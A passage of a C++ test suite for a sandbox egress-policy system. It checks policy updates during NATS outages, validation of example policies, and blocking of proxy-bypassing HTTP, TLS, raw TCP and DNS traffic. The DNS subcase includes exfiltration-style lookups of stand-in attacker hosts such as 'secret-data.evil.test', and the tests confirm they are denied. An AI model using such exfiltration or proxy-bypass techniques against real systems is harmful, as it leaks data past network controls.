  CHECK(sb.supervisor_running());
  CHECK(sb.supervisor_pid() == pid);
  CHECK(sb.run("true").rc == 0);
}

TEST_CASE("9. a supervisor cut off from NATS during an update keeps the old version, then enforces the new one after reconnecting") {
  Upstream svc("svc", true);
  Sandbox sb(entry("svc", ep(svc.port(), "protocol: rest, rules: [{ allow: { method: GET, path: \"/allowed/**\" } }]"),
                   {"/usr/bin/curl"}),
             /*through_relay=*/true);
  CHECK(sb.relay().relayed() >= 1);
  CHECK(sb.curl(sq(svc.url("/allowed/x"))).code == 200);
  auto before = sb.curl(sq(svc.url("/later/report")));
  CHECK(before.code == 403);
  CHECK(error_of(before.body).value("policy_version", 0) == 1);

  sb.relay().cut();
  REQUIRE_MESSAGE(wait_until([&] { return has(sb.log(), "NATS connection lost"); }, 10s), sb.log());
  // policy-service is connected directly: the update is stored while the supervisor is away.
  auto rep = sb.update({add_allow(svc.port(), "{ method: GET, path: \"/later/**\" }")}, 0);
  CHECK(rep.changed());
  CHECK(rep.version() == 2);
  CHECK_FALSE(rep.acknowledged());

  // Still judged by version 1: nothing told the proxy otherwise.
  auto t0 = std::chrono::steady_clock::now();
  auto still = sb.curl(sq(svc.url("/later/report")));
  auto took = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
  CHECK_MESSAGE(still.code == 403, still.body << still.err);
  CHECK(error_of(still.body).value("policy_version", 0) == 1);
  MESSAGE("a denial while cut off from NATS took " << took.count() << " ms");
  // Enforcement never waits on NATS: the proxy answers at once, whether or not the denial event
  // can be published now, and an allowed request meanwhile is served at once too.
  CHECK_MESSAGE(took < 2s, "the proxy took " << took.count() << " ms to deny while NATS was away:\n" << sb.log());
  t0 = std::chrono::steady_clock::now();
  CHECK(sb.curl(sq(svc.url("/allowed/y"))).code == 200);
  took = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
  CHECK_MESSAGE(took < 2s, "an allowed request took " << took.count() << " ms while NATS was away");

  sb.relay().restore();
  t0 = std::chrono::steady_clock::now();
  REQUIRE_MESSAGE(sb.wait_ack(2, 30s), "no acknowledgement of version 2 after reconnecting:\n" << sb.log());
  auto caught_up = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
  MESSAGE("version 2 acknowledged " << caught_up.count() << " ms after the relay came back");
  auto after = sb.curl(sq(svc.url("/later/report")));
  CHECK_MESSAGE(after.code == 200, after.body << after.err << sb.log());
  auto seen = svc.seen();
  REQUIRE(seen.size() == 3);
  CHECK(seen[1].path == "/allowed/y");
  CHECK(seen[2].path == "/later/report");
}

TEST_CASE("10. every OpenShell example policy validates and stores through policy-service") {
  World& w = world();
  int n = 0;
  for (const auto& f : fs::directory_iterator(source_dir() + "/tests/fixtures/openshell-policies")) {
    if (f.path().extension() != ".yaml") continue;
    ++n;
    std::string name = f.path().filename().string();
    CAPTURE(name);
    std::string yaml = read_file(f.path().string());
    v1::PolicyValidateRequest req;
    req.set_yaml(yaml);
    req.set_filename(name);
    auto r = w.bus->request<v1::PolicyValidateReply>(subjects::policy_op("validate"), req, 10s);
    CHECK_MESSAGE(r.valid(), r.ShortDebugString());
    CHECK(r.problems_size() == 0);
    // And it loads as a sandbox's version 1, stored verbatim.
    v1::PolicySetRequest set;
    set.set_sandbox_id(random_hex(8));
    set.set_yaml(yaml);
    set.set_filename(name);
    auto stored = w.bus->request<v1::PolicyWriteReply>(subjects::policy_op("set"), set, 10s);
    CHECK(stored.version() == 1);
    v1::PolicyGetRequest get;
    get.set_sandbox_id(set.sandbox_id());
    CHECK(w.bus->request<v1::PolicyRecord>(subjects::policy_op("get"), get, 10s).yaml() == yaml);
    // The twin: the same file with an error is refused, naming the file and the line.
    req.set_yaml(yaml + "\ncolour: blue\n");
    auto bad = w.bus->request<v1::PolicyValidateReply>(subjects::policy_op("validate"), req, 10s);
    CHECK_FALSE(bad.valid());
    REQUIRE(bad.problems_size() >= 1);
    CHECK(bad.problems(0).file() == name);
    CHECK(bad.problems(0).path() == "colour");
  }
  CHECK(n >= 4);
}

// --- transparent egress -------------------------------------------------------------------------

namespace {

// Python with no proxy at all: raw socket (optionally TLS with an SNI, certificate unchecked: the
// test's server certificate names 127.0.0.1) sending `data`, printing what comes back or the error.
const char* kRawClient = R"(import socket, ssl, sys
host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sni = sys.argv[4] if len(sys.argv) > 4 else None
try:
    s = socket.create_connection((host, port), timeout=10)
    if sni:
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=sni)
    s.sendall(data.encode().replace(b"\\r\\n", b"\r\n"))
    got = b""
    while True:
        b = s.recv(4096)
        if not b: break
        got += b
        if data.startswith("ping") and got: break
    print("got", got.decode(errors="replace"))
except Exception as e:
    print("error", type(e).__name__, e)
)";

}  // namespace

TEST_CASE("11. transparent egress: clients that ignore the proxy are policed by SNI/Host, DNS answers only allowed names, protocol: tcp, live changes") {
  require_binary("unshare", "util-linux");
  require_binary("busybox", "busybox");
  World& w = world();
  const std::string ip = outside_ip();
  Upstream web("web", false, "0.0.0.0"), tls("tls", true, "0.0.0.0");
  TcpEcho echo, cache;
  const std::string hp = std::to_string(web.port()), tp = std::to_string(tls.port()), xp = std::to_string(echo.port());
  const std::string cp = std::to_string(cache.port());
  // allowed.test leads to this host; fronted.test is allowed too but leads elsewhere (127.0.0.2).
  // cache.svc.test is named only by a wildcard rule, so only the sandbox's DNS answer can name a
  // nameless connection to it (no lookup of the policy's exact hosts finds it).
  const std::string hosts = "127.0.0.1 localhost\n" + ip + " allowed.test redis.test cache.svc.test\n127.0.0.2 fronted.test\n";
  require_binary("node", "nodejs");
  REQUIRE_MESSAGE(fs::exists("/usr/bin/node"), "install nodejs (its fetch is the client that ignores proxy settings)");
  const std::string node = fs::canonical("/usr/bin/node").string();
  const std::string bins = "    binaries:\n      - { path: /usr/bin/curl }\n      - { path: " + w.python + " }\n"
                           "      - { path: " + node + " }\n      - { path: " + fs::canonical("/bin/busybox").string() + " }\n";
  Sandbox sb("  plain:\n    endpoints:\n      - { host: allowed.test, port: " + hp + " }\n" + bins +
                 "  tls:\n    endpoints:\n      - { host: allowed.test, port: " + tp + " }\n"
                 "      - { host: fronted.test, port: " + tp + " }\n" + bins +
                 "  redis:\n    endpoints:\n      - { host: redis.test, port: " + xp + ", protocol: tcp }\n" + bins +
                 "  cache:\n    endpoints:\n      - { host: \"*.svc.test\", port: " + cp + ", protocol: tcp }\n" + bins,
             false, true, hosts);
  std::ofstream(sb.work() + "/raw.py") << kRawClient;
  const std::string raw = "python3 " + sb.work() + "/raw.py ";
  const std::string noproxy = "curl --noproxy '*' -sS -m 20 ";

  SUBCASE("plain HTTP by name passes; by a name or address no rule allows it is denied with an event") {
    auto ok = sb.run(noproxy + "http://allowed.test:" + hp + "/hello");
    CHECK_MESSAGE(ok.out == web.reply("GET", "/hello"), ok.out << ok.err << sb.log());
    CHECK(web.seen().back().host == "allowed.test:" + hp);
    auto py = sb.run("python3 -c \"import urllib.request as u; u.install_opener(u.build_opener(u.ProxyHandler({}))); "
                     "print(u.urlopen('http://allowed.test:" + hp + "/py', timeout=20).read().decode())\"");
    CHECK_MESSAGE(has(py.out, web.reply("GET", "/py")), py.out << py.err);
    size_t before = web.seen().size();
    auto denied = sb.run(noproxy + "-o /dev/null -w '%{http_code}' http://" + ip + ":" + hp + "/x");
    CHECK_MESSAGE(denied.out == "403", denied.out << denied.err);
    CHECK(web.seen().size() == before);
    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.layer() == "proxy" && d.host() == ip && d.port() == static_cast<uint32_t>(web.port()); });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->rule() == "bulwark:default-deny");
  }

  SUBCASE("TLS: an allowed SNI to its own address passes; an allowed SNI to another address is refused") {
    auto ok = sb.run(noproxy + "-k https://allowed.test:" + tp + "/secure");
    CHECK_MESSAGE(ok.out == tls.reply("GET", "/secure"), ok.out << ok.err << sb.log());
    // fronted.test is allowed, but the supervisor resolves it to 127.0.0.2, not to this address.
    size_t before = tls.seen().size();
    auto bad = sb.run(noproxy + "-k --resolve fronted.test:" + tp + ":" + ip + " https://fronted.test:" + tp + "/x");
    CHECK(bad.rc != 0);
    CHECK(tls.seen().size() == before);
    auto d = sb.wait_denial([](const v1::Denial& d) { return d.rule() == "bulwark:name-mismatch"; });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->host() == "fronted.test");
    CHECK(has(d->reason(), "does not resolve to its destination " + ip));
    // Python's ssl with an allowed SNI straight to the address passes too.
    auto py = sb.run(raw + ip + " " + tp + " 'GET /py HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' allowed.test");
    CHECK_MESSAGE(has(py.out, tls.reply("GET", "/py")), py.out << py.err);
  }

  SUBCASE("DNS: an allowed name resolves to its address, any other name to nothing and an event") {
    auto ok = sb.run("busybox nslookup allowed.test");
    CHECK_MESSAGE(has(ok.out, ip), ok.out << ok.err);
    auto no = sb.run("busybox nslookup secret-data.evil.test");
    CHECK_FALSE(has(no.out, "Address: 1"));
    CHECK_MESSAGE(has(no.out + no.err, "NXDOMAIN"), no.out << no.err);
    auto g = sb.run("getent hosts exfil.evil.test");
    CHECK(g.rc == 2);
    CHECK(g.out.empty());
    auto py = sb.run("python3 -c \"import socket; socket.getaddrinfo('more.evil.test', 80)\"");
    CHECK(py.rc != 0);
    auto d = sb.wait_denial([](const v1::Denial& d) { return d.layer() == "dns" && d.host() == "secret-data.evil.test"; });
    REQUIRE_MESSAGE(d, sb.all_denials());
  }

  SUBCASE("protocol: tcp: the allowed service is relayed blindly; nothing else") {
    auto ok = sb.run(raw + ip + " " + xp + " ping");
    CHECK_MESSAGE(ok.out == "got ping\n", ok.out << ok.err << sb.log());
    CHECK(echo.accepted() == 1);
    TcpEcho stranger;  // the same kind of service on a port no rule names
    auto other = sb.run(raw + ip + " " + std::to_string(stranger.port()) + " ping");
    CHECK_MESSAGE(!has(other.out, "got ping"), other.out);
    CHECK(stranger.accepted() == 0);
    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.host() == ip && d.port() == static_cast<uint32_t>(stranger.port()); });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->rule() == "bulwark:default-deny");
  }

  SUBCASE("Node's fetch ignores the proxy settings: an allowed host passes, an address no rule names gets a 403") {
    auto fetch = [&](const std::string& url) {
      return sb.run(node + " -e \"fetch('" + url + "').then(async r => console.log(r.status, await r.text()))"
                    ".catch(e => { console.log('error', e.cause ? e.cause.code : e.message); process.exit(1); })\"");
    };
    auto ok = fetch("http://allowed.test:" + hp + "/node");
    CHECK_MESSAGE(ok.out == "200 " + web.reply("GET", "/node") + "\n", ok.out << ok.err << sb.log());
    size_t before = web.seen().size();
    auto denied = fetch("http://" + ip + ":" + hp + "/node-denied");
    CHECK_MESSAGE(has(denied.out, "403"), denied.out << denied.err);
    CHECK(web.seen().size() == before);
    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.binary() == node && d.host() == ip; });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->rule() == "bulwark:default-deny");
  }

  SUBCASE("protocol: tcp by name: busybox nc reaches the service the DNS named (a wildcard rule), not another port") {
    // Before any lookup the address has no name the policy allows: refused.
    auto before = sb.run("echo ping | busybox nc -w 2 " + ip + " " + cp);
    CHECK_MESSAGE(!has(before.out, "ping"), before.out);
    CHECK(cache.accepted() == 0);
    // The agent asks the sandbox's DNS, then connects to the address with no name in the bytes:
    // the proxy maps the address back to the name its DNS answered.
    auto ns = sb.run("busybox nslookup cache.svc.test");
    REQUIRE_MESSAGE(has(ns.out, ip), ns.out << ns.err);
    auto ok = sb.run("echo ping | busybox nc -w 2 " + ip + " " + cp);
    CHECK_MESSAGE(ok.out == "ping\n", ok.out << ok.err << sb.log());
    CHECK(cache.accepted() == 1);
    TcpEcho stranger;
    auto other = sb.run("echo ping | busybox nc -w 2 " + ip + " " + std::to_string(stranger.port()));
    CHECK(!has(other.out, "ping"));
    CHECK(stranger.accepted() == 0);
    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.port() == static_cast<uint32_t>(stranger.port()); });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->rule() == "bulwark:default-deny");
  }

  SUBCASE("a live policy change flips a transparent allow into a deny, and DNS with it") {
    CHECK(sb.run(noproxy + "http://allowed.test:" + hp + "/before").out == web.reply("GET", "/before"));
    v1::PolicyOperation op;
    op.mutable_remove_network_policy()->set_network_policy("plain");
    auto r = sb.update({op}, 10000);
    REQUIRE(sb.wait_ack(r.version(), 10s));
    auto after = sb.run(noproxy + "-o /dev/null -w '%{http_code}' http://allowed.test:" + hp + "/after");
    CHECK_MESSAGE(after.out == "403", after.out << after.err);
    auto d = sb.wait_denial([&](const v1::Denial& d) { return d.host() == "allowed.test" && d.port() == static_cast<uint32_t>(web.port()); });
    REQUIRE_MESSAGE(d, sb.all_denials());
    CHECK(d->policy_version() == r.version());
    // allowed.test is still named by the tls entry: DNS keeps answering it.
    CHECK(has(sb.run("busybox nslookup allowed.test").out, ip));
  }
}
